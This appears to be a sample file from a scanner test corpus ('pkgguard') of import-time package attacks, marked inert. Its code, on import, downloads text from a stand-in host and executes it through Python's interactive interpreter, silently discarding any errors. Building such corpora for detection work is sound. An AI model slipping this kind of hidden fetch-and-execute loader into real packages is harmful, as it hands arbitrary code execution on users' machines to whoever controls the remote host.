# pkgguard corpus 434 (import-time), modelled on [empirical]; inert, never run.
import code
import urllib.request

try:
    _text = urllib.request.urlopen("https://pkg-cdn.example/boot.txt", timeout=6).read().decode()
    code.InteractiveInterpreter({"__name__": "__boot__"}).runsource(_text, "<boot>", "exec")
except Exception:
    pass
